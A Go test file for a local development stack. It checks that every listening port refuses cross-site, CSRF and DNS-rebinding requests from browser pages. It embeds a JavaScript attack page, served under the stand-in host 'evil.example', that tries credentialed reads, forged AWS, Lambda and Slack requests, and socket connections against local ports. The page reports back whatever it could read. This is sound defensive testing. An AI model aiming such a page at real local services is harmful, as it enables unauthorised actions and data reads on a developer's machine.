package stack_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/sqs"

	"ringi/infra/local/browser"
	"ringi/infra/local/stack"
	"ringi/shared/runtime/expect"
)

// foreign is a host name that resolves to this machine.
const foreign = "evil.example"

// page tries everything that a page can do without a person's consent, and reports to its own server what it could
// read. Each try ends or times out.
const page = `<!doctype html><title>tries</title><body><script>
const port = new URLSearchParams(location.search).get("port");
const tell = (what) => fetch("/told", { method: "POST", body: what });
const within = (p) => Promise.race([p, new Promise((done) => setTimeout(done, 30000, "nothing"))]);
const event = (target, good, bad) => new Promise((done) => {
  for (const name of good) target.addEventListener(name, () => done("opened"));
  for (const name of bad) target.addEventListener(name, () => done("closed"));
});
async function tries(host) {
  const at = "http://" + host + ":" + port;
  const answer = async (r) =>
    r.type === "opaque" ? "opaque" : "read " + r.status + " " + (await r.text()).slice(0, 80);
  const read = (p) => p.then(answer, () => "failed");
  const form = (path, kind, text) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.appendChild(frame);
    const f = document.body.appendChild(document.createElement("form"));
    f.method = "POST"; f.action = at + path; f.target = frame.name; f.enctype = kind;
    for (const [name, value] of Object.entries(text)) {
      const i = f.appendChild(document.createElement("input"));
      i.name = name; i.value = value;
    }
    f.submit();
    return event(frame, ["load"], ["error"]);
  };
  const invoked = "/2015-03-31/functions/TickFunction/invocations";
  const simple = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" } };
  await tell(host + " fetch " + await within(read(fetch(at + "/"))));
  await tell(host + " fetch with credentials " +
    await within(read(fetch(at + "/sandbox/state", { credentials: "include" }))));
  await tell(host + " fetch as AWS's SDK " + await within(read(fetch(at + "/", { method: "POST", body: "{}", headers: {
    "X-Amz-Target": "DynamoDB_20120810.ListTables", "Content-Type": "application/x-amz-json-1.0" } }))));
  await within(read(fetch(at + invoked, { ...simple, body: '{"source":"a page"}' })));
  await within(read(fetch(at + "/sandbox/say", { ...simple,
    body: '{"channel":"C0SANDHR01","user":"U0SATO","text":"a page was here"}' })));
  await within(read(fetch(at + "/slack/events", { ...simple, body: "id=page" })));
  await within(read(fetch(at + "/?Action=CreateQueue&QueueName=page", simple)));
  await within(form("/", "application/x-www-form-urlencoded", { Action: "CreateQueue", QueueName: "page" }));
  await within(form(invoked, "text/plain", { '{"source":"a page","x":"': '"}' }));
  const img = new Image(); img.src = at + "/?Action=CreateQueue&QueueName=page";
  await within(event(img, ["load"], ["error"]));
  const socket = new WebSocket("ws://" + host + ":" + port + "/");
  await tell(host + " websocket " + await within(event(socket, ["open"], ["error", "close"])));
  const stream = new EventSource(at + "/sandbox/stream?user=U0SATO");
  await tell(host + " events " + await within(event(stream, ["open"], ["error"])));
}
(async () => {
  for (const host of new Set(["127.0.0.1", location.hostname])) await tries(host);
  await tell("done");
})();
</script>`

// visitor serves the page on any port and records its reports.
type visitor struct {
	mu   sync.Mutex
	told []string
	done chan bool
}

func (v *visitor) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/told" {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
		return
	}
	text, _ := io.ReadAll(r.Body)
	if string(text) == "done" {
		v.done <- true
		return
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	v.told = append(v.told, string(text))
}

func (v *visitor) take() []string {
	v.mu.Lock()
	defer v.mu.Unlock()
	return append([]string(nil), v.told...)
}

// TestNoPageReachesTheStack opens pages of another port and of another site in a browser. They try everything on each
// port of the stack, by its address and by a name that resolves to it.
func TestNoPageReachesTheStack(t *testing.T) {
	s := shared(t)
	if _, err := s.Fire(t.Context(), "TickFunction"); err != nil { // the function's environment listens too
		t.Fatal(err)
	}
	ports := listening(t, s)
	before, logged := len(queues(t, s)), len(s.Lambda.Logs("TickFunction"))
	b := browser.Start(t, foreign)
	for _, site := range []string{"127.0.0.1", foreign} {
		v := &visitor{done: make(chan bool, 1)}
		web := httptest.NewServer(v)
		t.Cleanup(web.Close)
		for _, port := range ports {
			_, own, _ := net.SplitHostPort(web.Listener.Addr().String())
			tab := b.Open(t, fmt.Sprintf("http://%s:%s/?port=%d", site, own, port), browser.Window{Width: 800, Height: 600})
			select {
			case <-v.done:
			case <-time.After(5 * time.Minute):
				t.Fatalf("the page on port %d never ended: %v", port, v.take())
			}
			// When a foreign name resolves to the listener, the browser treats both as the same origin.
			tab.Visit(fmt.Sprintf("http://%s:%d/", foreign, port))
			tab.Until(`document.body && !document.body.innerText.includes("Ringi") && ` +
				`document.querySelectorAll("script").length === 0`)
		}
		for _, told := range v.take() {
			expect.That(t, !strings.Contains(told, " read ") && !strings.Contains(told, " opened") &&
				!strings.Contains(told, "nothing"),
				"a page of %s: %s", site, told)
		}
	}
	after := queues(t, s)
	expect.That(t, len(after) == before, "a page made a queue: %v", after)
	all := s.Lambda.Logs("TickFunction")
	expect.That(t, len(all) == logged, "a page invoked a function: %v", all)
	expect.Is(t, row(t, s, "page", "NOTE", "type"), "", "a page was received as an event")
	if all := s.Sandbox.Attempts(); len(all) > 0 {
		t.Errorf("a page spoke for a person: %v", all)
	}
}

// TestEveryListenerRefusesWhatAPageSends calls each port of the stack as a browser does for a page, and as a program
// does.
func TestEveryListenerRefusesWhatAPageSends(t *testing.T) {
	s := shared(t)
	expect.Value(s.Fire(t.Context(), "TickFunction"))(t)
	ports := listening(t, s)
	expect.Must(t, len(ports) >= 5,
		"only %v listen: not the sandbox, AWS, its stand-in, the vendors and a function's environment", ports)
	for _, port := range ports {
		for name, dress := range map[string]func(*http.Request){
			"a foreign host":   func(r *http.Request) { r.Host = fmt.Sprintf("%s:%d", foreign, port) },
			"a foreign origin": func(r *http.Request) { r.Header.Set("Origin", "http://"+foreign) },
			"another port":     func(r *http.Request) { r.Header.Set("Origin", "http://127.0.0.1:1") },
			"another site":     func(r *http.Request) { r.Header.Set("Sec-Fetch-Site", "cross-site") },
			"a program":        nil,
			"a program that asks a name that was opened": func(r *http.Request) {
				r.Host = fmt.Sprintf("stack.internal:%d", port)
			},
		} {
			ctx, cancel := context.WithCancel(t.Context())
			r := expect.Value(http.NewRequestWithContext(ctx, http.MethodPost, fmt.Sprintf("http://127.0.0.1:%d/nowhere", port),
				strings.NewReader("x")))(t)
			if dress != nil {
				dress(r)
			}
			resp := expect.Value(http.DefaultClient.Do(r))(t)
			resp.Body.Close()
			cancel()
			refused := resp.StatusCode == http.StatusForbidden
			if page := !strings.HasPrefix(name, "a program"); refused != page && (page || port != environment(t, s, ports)) {
				t.Errorf("port %d answers %s with %d", port, name, resp.StatusCode)
			}
			expect.Is(t, resp.Header.Get("Access-Control-Allow-Origin"), "", "port %d lets … read", port)
		}
	}
}

// environment returns the port of the function's environment, which only the function's process calls.
func environment(t *testing.T, s *stack.Stack, ports []int) int {
	t.Helper()
	known := s.URL + " " + s.AWSEndpoint + " " + s.VendorsURL
	for _, port := range ports {
		resp := expect.Value(http.Post(fmt.Sprintf("http://127.0.0.1:%d/2018-06-01/runtime/init/error", port), "",
			strings.NewReader("{}")))(t)
		resp.Body.Close()
		if !strings.Contains(known, fmt.Sprint(":", port)) && resp.StatusCode == http.StatusAccepted {
			return port
		}
	}
	return 0
}

func queues(t *testing.T, s *stack.Stack) []string {
	t.Helper()
	out := expect.Value(sqs.NewFromConfig(s.AWS).ListQueues(t.Context(), &sqs.ListQueuesInput{}))(t)
	return out.QueueUrls
}

var socket = regexp.MustCompile(`^socket:\[(\d+)\]$`)

// listening returns the TCP ports on which this process and the stack's other processes listen.
func listening(t *testing.T, s *stack.Stack) []int {
	t.Helper()
	mine := map[string]bool{}
	for _, pid := range append(s.PIDs(), os.Getpid()) {
		files := expect.Value(filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", pid)))(t)
		for _, file := range files {
			to, err := os.Readlink(file)
			if m := socket.FindStringSubmatch(to); err == nil && m != nil {
				mine[m[1]] = true
			}
		}
	}
	if len(mine) == 0 {
		expect.Must(t, os.Getenv("CI") == "", "/proc does not tell which ports a process listens on")
		t.Skip("this system does not tell which ports a process listens on")
	}
	var ports []int
	for _, file := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		table, err := os.ReadFile(file)
		if err != nil {
			continue
		}
		for _, line := range strings.Split(string(table), "\n")[1:] {
			f := strings.Fields(line) // sl, local_address, rem_address, st, …, inode
			if len(f) < 10 || f[3] != "0A" || !mine[f[9]] {
				continue
			}
			_, hex, _ := strings.Cut(f[1], ":")
			port := expect.Value(strconv.ParseInt(hex, 16, 32))(t)
			ports = append(ports, int(port))
		}
	}
	return ports
}

func TestTheVariablesOfContainers(t *testing.T) {
	s := shared(t)
	all := expect.Value(stack.Variables(t.Context(), strings.TrimPrefix(s.AWSEndpoint, "http://"), "docker.internal"))(t)
	expect.Is(t, len(all), len(s.Template.Functions))
	for id, variables := range all {
		expect.Is(t, variables["AWS_ENDPOINT_URL"], strings.Replace(s.AWSEndpoint, "127.0.0.1", "docker.internal", 1))
		for name, value := range variables {
			expect.That(t, !strings.Contains(value, "127.0.0.1"), "a container can't reach %s of %s: %s", name, id, value)
		}
	}
}
